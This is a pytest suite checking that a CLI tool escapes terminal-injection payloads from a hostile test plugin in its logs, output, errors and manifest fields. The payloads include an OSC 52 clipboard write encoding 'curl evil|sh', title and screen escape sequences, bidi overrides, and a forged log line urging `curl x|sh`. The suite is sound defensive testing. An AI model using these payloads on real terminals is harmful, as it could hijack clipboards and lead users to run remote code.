"""Terminal injection: plugin text reaches the operator's terminal as data, never as control.

The attacker puts escape sequences (OSC 0 window title, OSC 52 clipboard write, CSI 2J screen
clear, 8-bit CSI, bidi override) and a newline followed by a forged host log line in
everything it controls: log calls, stdout, its error message and hint, its manifest's
description. The operator's terminal must receive none of those bytes, with or without
``--json``, and every message stays one line.
"""

from __future__ import annotations

import io
import logging
from pathlib import Path

import pytest
from cli_kit import SOURCE, document, log_lines, project, raw_controls, wf

from wiseflow._cli._text import SafeFormatter, terminal_safe

PAYLOADS = {
    "title": "\x1b]0;pwned\x07",
    "clipboard": "\x1b]52;c;Y3VybCBldmlsfHNo\x07",
    "clear": "\x1b[2J\x1b[H",
    "csi8": "\x9b31m",
    "osc8": "\x9d0;t\x9c",
    "bidi": "\u202eevil\u202c\u2066x\u2069",
    "forged_line": "ok\nERROR wiseflow.host: all plugins verified, run `curl x|sh`",
    "carriage": "fine\rERROR wiseflow.host: overwritten",
}
EVIL = "".join(PAYLOADS.values())

ATTACKER = f"""\
import sys
import msgspec
from wiseflow import AnalyzerPlugin, PluginError

EVIL = {EVIL!r}

class Config(msgspec.Struct):
    prints: bool = True

class P(AnalyzerPlugin):
    Config = Config

    def initialize(self, ctx):
        self.ctx = ctx

    def result(self):
        return {{}}

    def analyze(self, batch):
        self.ctx.log.warning("log: " + EVIL)
        if self.ctx.config.prints:  # a worker's own stdout/stderr
            print("stdout: " + EVIL, flush=True)
            print("stderr: " + EVIL, file=sys.stderr, flush=True)
        raise PluginError("message: " + EVIL, hint="hint: " + EVIL)
"""

PIPE = """\
[pipeline]
name = "t"
[[sources]]
plugin = "innocent"
[[analyzers]]
plugin = "attacker"
config = {{ prints = {prints} }}
"""
DESCRIPTION = 'description = "desc \\u001b]0;pwned\\u0007 \\u001b[2J \\u009b31m \\u202eevil"\n'


def _attack(tmp_path: Path, level: str) -> Path:
    return project(
        tmp_path,
        {"innocent": ("connector", SOURCE), "attacker": ("analyzer", ATTACKER)},
        # A trusted plugin shares the host's own stdout/stderr: what it prints there itself
        # is its (trusted) business; a sandboxed worker's output goes through the host.
        PIPE.format(prints="false" if level == "trusted" else "true"),
        level=level,
        manifest_extra={"attacker": DESCRIPTION},
    )


def test_the_sanitiser_escapes_every_payload_visibly() -> None:
    """Each payload comes out with no control character and its parts readable."""
    for name, payload in PAYLOADS.items():
        shown = terminal_safe(payload)
        assert raw_controls(shown.encode()) == [], name
        assert "\n" not in shown, name
    assert terminal_safe(PAYLOADS["title"]) == "\\x1b]0;pwned\\x07"
    assert terminal_safe("a\tb\nc", multiline=True) == "a\tb\nc"
    assert terminal_safe("x" * 5000).endswith("… [1000 more characters]")


def test_a_forged_log_line_stays_inside_one_record() -> None:
    """A newline in a message is escaped: the console shows one line per log record."""
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(SafeFormatter("%(levelname)s %(name)s: %(message)s"))
    logger = logging.getLogger("wiseflow.plugin.test-forged-line")
    logger.addHandler(handler)
    logger.propagate = False
    try:
        logger.warning("%s", PAYLOADS["forged_line"])
        raw = logging.Formatter("%(message)s").format(
            logging.makeLogRecord({"msg": PAYLOADS["forged_line"]})
        )
    finally:
        logger.removeHandler(handler)
    assert "\nERROR wiseflow.host" in raw  # control: unsanitised, the forged line appears
    assert stream.getvalue().count("\n") == 1
    assert stream.getvalue().startswith("WARNING wiseflow.plugin.test-forged-line: ok\\nERROR")


@pytest.mark.parametrize("level", ["trusted", "sandboxed"])
def test_plugin_text_reaches_the_terminal_escaped_on_a_run(tmp_path: Path, level: str) -> None:
    """Logs, output, error message and hint of a run carry no raw control to the terminal."""
    root = _attack(tmp_path, level)
    res = wf("run", "p.toml", cwd=root)
    assert res.returncode == 1, res.stderr
    # control: the attack reached the host intact (the JSON log keeps the data as sent)
    messages = [line["message"] for line in log_lines(root)]
    assert any("\x1b]52;c;" in m for m in messages)
    assert raw_controls(res.stdout + res.stderr) == []
    assert b"\\x1b]52;c;Y3VybCBldmlsfHNo\\x07" in res.stderr  # shown, escaped
    lines = (res.stdout + res.stderr).decode().splitlines()
    assert not [ln for ln in lines if ln.startswith("ERROR wiseflow.host")]
    assert b"message: " in res.stderr


@pytest.mark.parametrize("level", ["trusted", "sandboxed"])
def test_json_documents_carry_no_raw_control(tmp_path: Path, level: str) -> None:
    """With --json the run document escapes every control and keeps the text as data."""
    root = _attack(tmp_path, level)
    res = wf("run", "p.toml", "--json", cwd=root)
    assert res.returncode == 1
    assert raw_controls(res.stdout) == []
    assert raw_controls(res.stderr) == []
    doc = document(res)
    (err,) = [e for e in doc["errors"] if e["plugin"] == "attacker"]
    assert "\x1b]0;pwned\x07" in err["message"]  # the data survives, decoded
    assert "\u202eevil" in err["message"]


@pytest.mark.parametrize("json_flag", [False, True])
def test_manifest_fields_are_escaped_in_plugins_list_and_info(
    tmp_path: Path, json_flag: bool
) -> None:
    """A description with ESC/C1/bidi controls is shown escaped by plugins list and info."""
    root = _attack(tmp_path, "sandboxed")
    flags = ["--json"] if json_flag else []
    for args in (["plugins", "list"], ["plugins", "info", "attacker"]):
        res = wf(*args, *flags, cwd=root)
        assert res.returncode == 0, res.stderr
        assert raw_controls(res.stdout + res.stderr) == [], args
        if json_flag:
            assert "desc \x1b]0;pwned\x07" in _strings(document(res)), args
        elif args[1] == "info":  # `list` shows no description column
            assert b"desc \\x1b]0;pwned\\x07" in res.stdout, args


def _strings(doc: object) -> str:
    """Every string in a JSON document, joined (what the document carries as data)."""
    if isinstance(doc, dict):
        return " ".join(_strings(k) + " " + _strings(v) for k, v in doc.items())
    if isinstance(doc, list):
        return " ".join(_strings(v) for v in doc)
    return doc if isinstance(doc, str) else ""


@pytest.mark.parametrize("name", ["[link=https://evil.example]click[/link]", "[/bold]x"])
def test_markup_in_a_broken_manifest_name_is_shown_not_rendered(tmp_path: Path, name: str) -> None:
    """plugins list shows a rich-markup name as text: no hyperlink escape, no crash (exit 0)."""
    from rich.console import Console

    probe = io.StringIO()
    Console(file=probe, force_terminal=True).print("[link=https://evil.example]click[/link]")
    assert "\x1b]8;" in probe.getvalue()  # control: rendered as markup, it is a hyperlink
    folder = tmp_path / "plugins" / "x"
    folder.mkdir(parents=True)
    (folder / "plugin.toml").write_text(
        f'[plugin]\nname = "{name}"\nversion = "1.0.0"\nkind = "processor"\nentry = "plugin:P"\n'
    )
    (tmp_path / "wiseflow.toml").write_text('[wiseflow]\nplugin_dirs = ["plugins"]\n')
    res = wf("plugins", "list", cwd=tmp_path, env={"FORCE_COLOR": "1", "COLUMNS": "300"})
    assert res.returncode == 0, res.stderr
    assert b"\x1b]8;" not in res.stdout
    assert b"error" in res.stdout  # the broken row is listed, state error
